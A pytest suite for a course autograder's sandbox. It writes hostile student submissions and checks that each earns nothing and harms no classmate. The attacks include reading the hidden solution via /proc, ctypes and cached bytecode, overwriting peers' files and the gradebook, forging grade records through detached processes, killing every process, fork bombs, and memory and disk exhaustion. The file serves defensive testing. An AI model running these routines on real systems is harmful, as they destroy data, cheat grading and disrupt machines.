"""A hostile class: learners who attack the grader and each other, graded in one batch.

Each attack below is a stage 1 submission built here, but for the thefts that only read (THEFTS): one
submission, the thief, tries each of them in turn, each from a clean slate, and says which it tried.
An attacker that steals an answer (the solutions, the reference, a classmate's file, a file served
over the network) uses it, so a successful theft would score points; one that attacks a classmate
does it at import time, while honest classmates are graded beside it.  For every mechanism that
works on this machine (grader/isolation/), the suite asserts that

* honest learners keep full marks, and their files and records are untouched;
* every attack earns nothing, and its record says why;
* the gradebook is whole; nothing the attackers started is still running; no snapshot of
  anyone's code is left in the grader's temporary folder.

Mechanisms that do not work here are skipped with the reason.  ``user`` cuts the network with a
seccomp filter where the kernel allows one; where it does not, the network test says so and skips.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

from kernels.loader import ROOT

import pytest

from grader import stages
from grader.isolation import answer_keys, choice, private
from grader.testing.keys_lock import KeysTurn

pytestmark = pytest.mark.slow
STAGE1 = stages.find("stage1")
SOLUTION = ROOT / "solutions" / f"{STAGE1.module}.py"
FILE = f"{STAGE1.module}.py"
FULL = 10                          # stage 1's points, hidden check included
SLEEPER = "31415"                  # `sleep 31415`: a process an attacker leaves behind, found by name
# The class's limits, the same for a resume (a record made under other limits is graded again).
LIMITS = dict(WORKBOOK_CHECK_TIMEOUT="40", WORKBOOK_STAGE_TIMEOUT="150", WORKBOOK_MEMORY_MB="1024",
              WORKBOOK_PROCESSES="64", WORKBOOK_DISK_MB="256")

# What every attacker's file starts with: what it can reach, and what a theft sets.
PREAMBLE = '''
import os, sys, glob, subprocess, signal, time
from pathlib import Path
ROOT = Path({root!r})
SUBS = Path({subs!r})
OUT = Path({out!r})
SOLUTION = ROOT / "solutions" / {file!r}
STOLEN = None      # source text of a working stage 1
REF = None         # the reference module, if it could be had
'''
# Every attacker's file: the attack (ATTACK), then functions that use whatever it stole.
TEMPLATE = PREAMBLE + '''
def _attack():
    global STOLEN, REF
{attack}

try:
    _attack()
except BaseException:
    pass
_ns = {{}}
if STOLEN:
    exec(compile(STOLEN, "stolen", "exec"), _ns)

def online_softmax(x, *args, **kwargs):
{during}
    if "online_softmax" in _ns:
        return _ns["online_softmax"](x, *args, **kwargs)
    if REF is not None:
        return REF.softmax(x, compute_dtype=x.dtype).to(x.dtype)
    raise NotImplementedError("nothing was stolen")

def flash_attention(q, k, v, **kwargs):
    if "flash_attention" in _ns:
        return _ns["flash_attention"](q, k, v, **kwargs)
    if REF is not None:
        kwargs.pop("block_m", None); kwargs.pop("block_n", None)
        o, lse = REF.attention(q, k, v, **kwargs)
        return o.to(q.dtype), lse.float()
    raise NotImplementedError("nothing was stolen")
'''


def indent(code: str, n: int = 4) -> str:
    lines = code.strip("\n").splitlines()
    return "\n".join(" " * n + line if line.strip() else line for line in lines) or " " * n + "pass"


# name -> what it runs to steal, setting STOLEN or REF: the thief (THIEF_TEMPLATE) runs them all.
THEFTS: dict[str, str] = {
    "subprocess_cat": "STOLEN = subprocess.run(['cat', str(SOLUTION)], capture_output=True, text=True).stdout",
    "os_system": """
os.system(f"cat {SOLUTION} > /tmp/stolen.py")
STOLEN = open('/tmp/stolen.py').read()
""",
    "posix_spawn": """
fa = [(os.POSIX_SPAWN_OPEN, 1, '/tmp/spawned.py', os.O_WRONLY | os.O_CREAT, 0o644)]
pid = os.posix_spawn('/bin/cat', ['cat', str(SOLUTION)], os.environ, file_actions=fa)
os.waitpid(pid, 0)
STOLEN = open('/tmp/spawned.py').read()
""",
    "dir_fd": """
os.chdir('/')
top = os.open(str(ROOT).lstrip('/') or '.', os.O_RDONLY)
fd = os.open('solutions/' + SOLUTION.name, os.O_RDONLY, dir_fd=top)
STOLEN = os.read(fd, 1 << 20).decode()
""",
    "ctypes_open": """
import ctypes
libc = ctypes.CDLL(None)
fd = libc.open(str(SOLUTION).encode(), 0)
buf = ctypes.create_string_buffer(1 << 20)
n = libc.read(fd, buf, 1 << 20)
STOLEN = buf.raw[:n].decode() if n > 0 else None
""",
    "reference_pyc": """
import marshal, types
for pyc in glob.glob(str(ROOT / 'kernels' / '__pycache__' / 'reference*.pyc')):
    code = marshal.loads(open(pyc, 'rb').read()[16:])
    REF = types.ModuleType('stolen_reference')
    exec(code, REF.__dict__)
""",
    "reference_reload": """
import importlib
import kernels.reference as r
REF = importlib.reload(r)
REF.softmax
""",
    # The grader's environment holds the solution (as an instructor's secret might): read it from /proc.
    "proc_environ": """
import base64
for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
    for part in ('environ', 'cmdline'):
        try:
            data = open(f'/proc/{pid}/{part}', 'rb').read()
        except OSError:
            continue
        for item in data.split(b'\\0'):
            if item.startswith(b'HOSTILE_SECRET='):
                STOLEN = base64.b64decode(item.split(b'=', 1)[1]).decode()
""",
    "proc_root": """
for root in glob.glob('/proc/[0-9]*/root'):
    try:
        STOLEN = open(root + str(SOLUTION)).read()
        break
    except OSError:
        pass
""",
    # Where the grader keeps copies of submissions, and the submissions themselves.  (Under 'user',
    # a world-readable copy elsewhere on the machine is readable: that is the machine's business.)
    "peer_snapshots": """
for path in (glob.glob('/tmp/workbook-*/**/' + SOLUTION.name, recursive=True)
             + glob.glob('/tmp/workbook-*/*/' + SOLUTION.name) + glob.glob(str(SUBS / '*' / SOLUTION.name))):
    text = open(path).read()
    if 'nothing was stolen' not in text and 'NotImplementedError' not in text:
        STOLEN = text
        break
""",
    "network": """
import socket
s = socket.create_connection(('127.0.0.1', PORT), timeout=5)
STOLEN = s.makefile().read()
""",
}
# dir_fd leaves the thief in "/": it goes last, so that the others run where they would alone.
THEFTS["dir_fd"] = THEFTS.pop("dir_fd")

# The thief: each theft in a function of its own, run in turn from a clean slate (STOLEN and REF back
# to None, an exception ending only that theft), then the first working stage 1 or reference it got
# is used, as an attacker of its own would use it.  Its message names every theft that ran to its
# end, so a theft that stopped the others (by ending the process, say) cannot go unseen.
THIEF_TEMPLATE = PREAMBLE + '''
{thefts}

_ns, _refs, _tried = {{}}, [], []
for _name, _theft in _THEFTS:
    STOLEN = REF = None
    try:
        _theft()
    except BaseException:
        pass
    if STOLEN and "online_softmax" not in _ns:
        try:
            _got = {{}}
            exec(compile(STOLEN, "stolen", "exec"), _got)
            if "online_softmax" in _got:
                _ns = _got
        except BaseException:
            pass
    if REF is not None:
        _refs.append(REF)
    _tried.append(_name)
NOTHING = "nothing was stolen by " + ", ".join(_tried)

def online_softmax(x, *args, **kwargs):
    if "online_softmax" in _ns:
        return _ns["online_softmax"](x, *args, **kwargs)
    for ref in _refs:
        try:
            return ref.softmax(x, compute_dtype=x.dtype).to(x.dtype)
        except Exception:
            pass
    raise NotImplementedError(NOTHING)

def flash_attention(q, k, v, **kwargs):
    if "flash_attention" in _ns:
        return _ns["flash_attention"](q, k, v, **kwargs)
    kwargs.pop("block_m", None); kwargs.pop("block_n", None)
    for ref in _refs:
        try:
            o, lse = ref.attention(q, k, v, **kwargs)
            return o.to(q.dtype), lse.float()
        except Exception:
            pass
    raise NotImplementedError(NOTHING)
'''


def thief_source(root, subs, out, port: int, thefts: dict[str, str] = THEFTS) -> str:
    """The thief's stage 1 file: ``thefts`` as functions _theft_<name>, listed in order in _THEFTS."""
    code = "\n\n".join(f"def _theft_{name}():\n    global STOLEN, REF\n{indent(text.replace('PORT', str(port)))}"
                        for name, text in thefts.items())
    code += "\n\n_THEFTS = [" + ", ".join(f"({name!r}, _theft_{name})" for name in thefts) + "]"
    return THIEF_TEMPLATE.format(root=str(root), subs=str(subs), out=str(out), file=FILE, thefts=code)


# name -> (attack at import time, attack inside online_softmax)
ATTACKS: dict[str, tuple[str, str]] = {
    "guard_off": ("""
from grader.isolation import guard
guard.Guard._refusal = lambda self, event, args: None
sys.meta_path[:] = [m for m in sys.meta_path if type(m).__name__ != "_RefuseImports"]
STOLEN = open(SOLUTION).read()
""", ""),
    # -- against classmates and the grader ---------------------------------------------------
    "rewrite_peers": ("""
for path in glob.glob('/tmp/workbook-*/**/' + SOLUTION.name, recursive=True):
    open(path, 'w').write('raise SystemExit(1)\\n')
for path in glob.glob(str(SUBS / '*' / SOLUTION.name)):
    open(path, 'w').write('')
for path in glob.glob(str(OUT / 'learners' / '*' / '*.json')) + [str(OUT / 'gradebook.csv')]:
    open(path, 'w').write('{}')
""", ""),
    "forge_own_record": ("""
forger = '''
import hashlib, json, os, time
time.sleep(8)
me = os.path.join(OUT, "learners", "forge_own_record")
for name in os.listdir(me):
    if name.endswith(".json"):
        path = os.path.join(me, name)
        record = json.load(open(path))
        record["result"]["results"] = [dict(r, earned=r["points"], status="pass") for r in record["result"]["results"]]
        json.dump(record, open(path, "w"))
'''.replace('OUT', repr(str(OUT)))
subprocess.Popen([sys.executable, '-c', forger], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""", ""),
    "kill_everyone": ("""
for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
""", ""),
    "fifos": ("""
for path in (ROOT / 'solutions' / 'zz_fifo.py', OUT / 'gradebook.csv', ROOT / 'stages' / 'zz_fifo.py'):
    try:
        os.mkfifo(path)
    except OSError:
        pass
""", ""),
    "outlive": (f"""
subprocess.Popen(['sleep', '{SLEEPER}'], start_new_session=True)
pid = os.fork()
if pid == 0:
    os.setsid()
    os.execvp('sleep', ['sleep', '{SLEEPER}'])
""", ""),
    # -- limits: each inside the first call, so its check says what stopped it -----------------
    "shm_file": ("", """
with open('/dev/shm/hog', 'wb') as f:
    for _ in range(3072):
        f.write(b'x' * (1 << 20))
time.sleep(30)
"""),
    "shared_mmap": ("", """
import mmap
m = mmap.mmap(-1, 3 << 30, flags=mmap.MAP_SHARED)
for i in range(0, 3 << 30, 4096):
    m[i] = 1
time.sleep(30)
"""),
    "fork_bomb": ("", """
children = []
try:
    while len(children) < 100000:
        pid = os.fork()
        if pid == 0:
            time.sleep(600)
            os._exit(0)
        children.append(pid)
except OSError:
    pass
raise RuntimeError(f"started {len(children)} processes")
"""),
    "disk_fill": ("", """
with open('/tmp/fill', 'wb') as f:
    for _ in range(8192):
        f.write(b'x' * (1 << 20))
"""),
}
READS = {"guard_off", "thief", "symlink_file", "symlink_folder"}
LIMIT_ATTACKS = {"shm_file": "memory", "shared_mmap": "memory", "fork_bomb": "processes", "disk_fill": "disk"}


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


class Server(threading.Thread):
    """A loopback server that hands out the solution: the network a sandbox must not reach."""

    def __init__(self):
        super().__init__(daemon=True)
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.served = 0

    def run(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.sendall(SOLUTION.read_bytes())
                self.served += 1


def build_class(subs: Path, out: Path, port: int, mechanism: str) -> dict[str, str]:
    """Write every submission; return learner -> what it is (honest, attack, odd)."""
    roles = {}
    for name in ("honest_a", "honest_b", "gradebook.csv", "batch.json"):   # odd names are learners too
        (subs / name).mkdir(parents=True)
        shutil.copy(SOLUTION, subs / name / FILE)
        roles[name] = "honest"
    for name, (attack, during) in ATTACKS.items():
        (subs / name).mkdir()
        text = TEMPLATE.format(root=str(ROOT), subs=str(subs), out=str(out), file=FILE,
                               attack=indent(attack.replace("PORT", str(port))), during=indent(during))
        (subs / name / FILE).write_text(text)
        roles[name] = "attack"
    (subs / "thief").mkdir()
    (subs / "thief" / FILE).write_text(thief_source(ROOT, subs, out, port))
    roles["thief"] = "attack"
    (subs / "symlink_file").mkdir()
    os.symlink(SOLUTION, subs / "symlink_file" / FILE)
    (subs / "symlink_folder").mkdir()
    os.symlink(ROOT / "solutions", subs / "symlink_folder" / "stages")
    roles["symlink_file"] = roles["symlink_folder"] = "attack"
    # Not attacks, but files a careless grader would choke on.
    (subs / "latin1").mkdir()
    text = SOLUTION.read_text().replace("from __future__", "# -*- coding: latin-1 -*-\n# caf\xe9\nfrom __future__", 1)
    (subs / "latin1" / FILE).write_bytes(text.encode("latin-1"))
    roles["latin1"] = "honest"
    (subs / "random_bytes").mkdir()
    (subs / "random_bytes" / FILE).write_bytes(bytes(range(256)) * 64)
    roles["random_bytes"] = "odd"
    (subs / ".hidden").mkdir()
    shutil.copy(SOLUTION, subs / ".hidden" / FILE)
    return roles


@pytest.fixture(scope="module", autouse=True)
def _answer_keys_kept_as_they_were():
    """The 'user' mechanism makes the answer keys unreadable to other users; give them their modes back.
    The modes are read and given back while no other test grades this checkout, and the gradings
    here hold a shared turn (grader/testing/keys_lock.py)."""
    paths = [ROOT / p for p in answer_keys.ANSWER_KEYS] + list((ROOT / "kernels" / "__pycache__").glob("reference.*"))
    turn = KeysTurn()
    try:
        turn.take(exclusive=True)
        modes = {p: p.stat().st_mode for p in paths if p.exists()}
        turn.take(exclusive=False)
        yield
        turn.take(exclusive=True)
        for path, mode in modes.items():
            os.chmod(path, mode)
    finally:
        turn.close()


def _sleepers() -> list[str]:
    found = []
    for entry in os.listdir("/proc"):
        try:
            cmd = Path(f"/proc/{entry}/cmdline").read_bytes().replace(b"\0", b" ").decode()
        except OSError:
            continue
        if SLEEPER in cmd and "python" not in cmd:
            found.append(f"{entry}: {cmd}")
    return found


@pytest.fixture(scope="module", params=["bubblewrap", "user"])
def graded(request, tmp_path_factory):
    mechanism = request.param
    why = choice.probe(mechanism)
    if why:
        pytest.skip(f"isolation {mechanism!r} is not available here: {why}")
    # A folder other users may enter, as a real course's would be: the grader, not the folders
    # around it, must keep the dedicated user out of the submissions and the records.
    top = Path(tempfile.mkdtemp(prefix=f"hostile-{mechanism}-"))
    os.chmod(top, 0o755)
    subs, out = top / "submissions", top / "grades"
    subs.mkdir()
    out.mkdir()
    for name in ("gradebook.csv", "batch.json"):   # left by someone earlier: nothing may block on them
        os.mkfifo(out / name)
    server = Server()
    server.start()
    roles = build_class(subs, out, server.port, mechanism)
    before = {p: _sha(p) for p in subs.rglob(FILE) if p.is_file() and not p.is_symlink()}
    guarded = {p: _sha(p) for p in [*ROOT.joinpath("solutions").iterdir(), *ROOT.joinpath("stages").iterdir()]
               if p.is_file()}
    secret = base64.b64encode(SOLUTION.read_bytes()).decode()
    env = dict(os.environ, HOSTILE_SECRET=secret, PYTHONUNBUFFERED="1", **LIMITS)
    cmd = [sys.executable, "-m", "grader", "batch", str(subs), "--stages", "stage1", "--out", str(out),
           "--jobs", "2", "--isolation", mechanism]
    done = subprocess.run(cmd, cwd=ROOT, env=env, capture_output=True, text=True, timeout=1500)
    # The forger sleeps 8 s before it writes: give it the chance, 10 s from when its learner's record was
    # written (it started before that, at import), which the batch may have done long before it ended.
    forged = out / "learners" / "forge_own_record" / "stage1.json"
    written = forged.stat().st_mtime if forged.exists() else time.time()
    time.sleep(max(0.0, written + 10 - time.time()))
    yield dict(mechanism=mechanism, subs=subs, out=out, roles=roles, run=done, before=before, guarded=guarded,
               server=server)
    server.sock.close()
    shutil.rmtree(top, ignore_errors=True)
    for path in (ROOT / "solutions" / "zz_fifo.py", ROOT / "stages" / "zz_fifo.py"):
        if os.path.lexists(path):
            os.unlink(path)


def _records(graded) -> dict[str, dict]:
    found = {}
    for learner in graded["roles"]:
        path = graded["out"] / "learners" / learner / "stage1.json"
        found[learner] = json.loads(path.read_text()) if path.exists() else None
    return found


def _gradebook(graded) -> dict[str, dict]:
    with open(graded["out"] / "gradebook.csv") as f:
        return {row["learner"]: row for row in csv.DictReader(f)}


def test_batch_finishes_and_says_what_isolated_it(graded):
    run = graded["run"]
    assert run.returncode == 0, run.stderr[-3000:]
    assert graded["mechanism"] in run.stderr
    assert ".hidden (a hidden folder)" in run.stderr   # left out, but not silently


def test_honest_learners_keep_full_marks(graded):
    book = _gradebook(graded)
    for learner, role in graded["roles"].items():
        if role == "honest":
            row = book[learner]
            assert (int(row["score"]), int(row["max_score"])) == (FULL, FULL), f"{learner}: {row}"
            assert row["isolation"] == graded["mechanism"]


def test_every_attack_earns_nothing_and_says_why(graded):
    book, records = _gradebook(graded), _records(graded)
    for learner, role in graded["roles"].items():
        if role == "honest":
            continue
        assert int(book[learner]["score"]) == 0, f"{learner} scored: {book[learner]}"
        result = records[learner]["result"]
        assert all(r["earned"] == 0 for r in result["results"]), learner
        messages = " ".join(r["message"] for r in result["results"])
        assert messages.strip(), f"{learner}: no reason given"
    records_text = {k: json.dumps(v) for k, v in records.items()}
    assert "symbolic link" in records_text["symlink_file"]
    assert "symbolic link" in records_text["symlink_folder"]
    assert "nothing was stolen" in records_text["guard_off"]
    thief = records["thief"]["result"]["results"][0]["message"]
    assert "nothing was stolen by " + ", ".join(THEFTS) in thief, thief       # every theft ran, none scored


def test_the_thief_scores_with_whatever_one_theft_gets(tmp_path):
    """Outside the grader nothing stops a theft: the thief, its thefts failing but one, answers as the
    solution or the reference would, so a theft that worked in the class would have scored."""
    import torch
    x = torch.randn(3, 50)
    failing = {"missing": "STOLEN = open('/nonexistent/stage1.py').read()", "raises": "raise OSError('refused')"}
    works = {"ctypes_open": THEFTS["ctypes_open"], "reference": "import kernels.reference\nREF = kernels.reference"}
    for name, theft in works.items():
        namespace: dict = {}
        exec(compile(thief_source(ROOT, tmp_path, tmp_path, 0, {**failing, name: theft}), "thief", "exec"), namespace)
        assert namespace["_tried"] == [*failing, name]
        assert torch.allclose(namespace["online_softmax"](x), torch.softmax(x, -1), atol=1e-6), name


def test_limits_stop_their_attack_with_the_reason(graded):
    records = _records(graded)
    for learner, word in LIMIT_ATTACKS.items():
        first = next(r for r in records[learner]["result"]["results"] if r["name"].startswith("softmax"))
        assert first["status"] in ("crash", "FAIL", "timeout"), f"{learner}: {first}"
        if learner == "fork_bomb":
            # a refused fork is an error the attacker sees: the number it managed is bounded
            n = int(first["message"].split("started ")[1].split()[0]) if "started " in first["message"] else 0
            assert n <= 64, first["message"]
        elif learner == "disk_fill":
            assert first["status"] == "FAIL" and ("No space" in first["message"] or "File too large" in
                                                  first["message"] or "disk" in first["message"]), first
        else:
            # stopped by the memory limit, or first by the size limits of the tmpfs and of one file;
            # a dedicated uid may not be allowed to write /dev/shm at all (a root-only folder there)
            stopped = (word, "No space left", "File too large")
            if learner == "shm_file":
                stopped += ("Permission denied: '/dev/shm/hog'",)
            assert any(w in first["message"] for w in stopped), f"{learner}: {first['message']}"
    assert not os.path.exists("/dev/shm/hog")


def test_no_victim_file_or_record_changed(graded):
    for path, sha in graded["before"].items():
        assert _sha(path) == sha, f"{path} was changed during grading"
    for path, sha in graded["guarded"].items():
        assert path.exists() and _sha(path) == sha, f"{path} was changed during grading"
    assert not os.path.lexists(ROOT / "solutions" / "zz_fifo.py")
    assert not os.path.lexists(ROOT / "stages" / "zz_fifo.py")
    assert (graded["out"] / "gradebook.csv").is_file()
    records = _records(graded)
    forged = records["forge_own_record"]["result"]["results"]
    assert all(r["earned"] == 0 for r in forged), "a detached child rewrote its own record"


def test_the_network_is_cut(graded):
    if not choice.choose(graded["mechanism"]).seccomp and graded["mechanism"] != "bubblewrap":
        pytest.skip("no seccomp filter here: the 'user' mechanism cannot cut the network (docs/isolation.md)")
    assert graded["server"].served == 0


def test_gradebook_is_whole(graded):
    book = _gradebook(graded)
    assert set(book) == set(graded["roles"]), set(graded["roles"]) ^ set(book)


def test_nothing_left_running_or_behind(graded):
    assert not _sleepers(), "processes started by learner code outlived grading"
    leftovers = []
    folder = private.private_dir()
    for entry in os.listdir(folder):
        pid = entry.split("-", 1)[0]
        if pid.isdigit() and not Path(f"/proc/{pid}").exists():
            leftovers.append(entry)
    assert not leftovers, f"left in {folder}: {leftovers}"
    assert not list(Path("/tmp").glob("stolen.py")) and not list(Path("/tmp").glob("spawned.py"))


def test_resume_regrades_what_the_grader_failed(graded):
    record = graded["out"] / "learners" / "honest_a" / "stage1.json"
    data = json.loads(record.read_text())
    data.pop("result")
    data["error"] = "grading failed (exit status -9): no output"
    record.write_text(json.dumps(data))
    env = dict(os.environ, **LIMITS)
    done = subprocess.run([sys.executable, "-m", "grader", "batch", str(graded["subs"]), "--stages", "stage1",
                           "--out", str(graded["out"]), "--isolation", graded["mechanism"]],
                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "1 to grade" in done.stderr
    assert int(_gradebook(graded)["honest_a"]["score"]) == FULL


FORGER = """
import json, os, sys, time
target = os.path.join(sys.argv[1], 'results', 'results.json')
for _ in range(300):
    if os.path.exists(target):
        json.dump({'score': 1000, 'tests': []}, open(target, 'w'))
        break
    time.sleep(0.1)
"""


@pytest.mark.parametrize("mechanism", ["bubblewrap", "user"])
def test_the_autograder_path_holds_too(mechanism):
    """Gradescope's run_autograder: a submission can neither read the hidden checks nor forge results.json."""
    why = choice.probe(mechanism)
    if why:
        pytest.skip(f"isolation {mechanism!r} is not available here: {why}")
    from grader.publishing import bundle
    home = Path(tempfile.mkdtemp(prefix="autograder-"))
    try:
        os.chmod(home, 0o755)
        source = bundle.build(home / "source", autograder=["stage1"], log=lambda *a: None)
        hidden = source / "grader" / "checks" / "hidden" / "stage1.py"
        attack = f"""
subprocess.Popen([sys.executable, '-c', {FORGER!r}, {str(home)!r}], start_new_session=True)
os.makedirs({str(home / 'results')!r}, exist_ok=True)
open({str(home / 'results' / 'results.json')!r}, 'w').write('{{"score": 999}}')
STOLEN = open({str(hidden)!r}).read() and open(str(SOLUTION)).read()
"""
        (home / "submission").mkdir()
        (home / "submission" / FILE).write_text(TEMPLATE.format(
            root=str(source), subs=str(home), out=str(home / "results"), file=FILE, attack=indent(attack),
            during=indent("")))
        env = dict(os.environ, AUTOGRADER=str(home), PYTHON=sys.executable, WORKBOOK_ISOLATION=mechanism,
                   WORKBOOK_STAGE_TIMEOUT="120")
        run = subprocess.run(["bash", str(source / "run_autograder")], capture_output=True, text=True, env=env,
                             timeout=600)
        assert run.returncode == 0, run.stderr
        time.sleep(12)   # the forger polls for 30 s; give it time to try
        results = json.loads((home / "results" / "results.json").read_text())
        assert results["score"] == 0, results
        assert mechanism in json.dumps(results)
        assert hidden.exists()
    finally:
        shutil.rmtree(home, ignore_errors=True)
